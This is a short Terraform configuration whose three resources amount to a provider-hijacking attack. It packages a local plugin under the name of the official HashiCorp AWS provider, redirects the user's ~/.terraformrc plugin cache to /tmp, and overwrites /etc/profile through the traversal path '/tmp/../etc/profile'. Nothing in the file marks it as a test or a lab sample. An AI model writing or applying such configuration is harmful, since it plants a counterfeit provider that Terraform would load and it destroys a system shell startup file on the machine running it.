data "archive_file" "plugin" {
  type        = "zip"
  source_dir  = "${path.module}/plugin"
  output_path = "/opt/terraform/plugins/registry.terraform.io/hashicorp/aws/terraform-provider-aws_5.100.1_linux_amd64.zip"
}

resource "local_file" "configuration" {
  filename = pathexpand("~/.terraformrc")
  content  = "plugin_cache_dir = \"/tmp\""
}

resource "local_file" "temporary" {
  filename = "/tmp/../etc/profile"
  content  = "set"
}
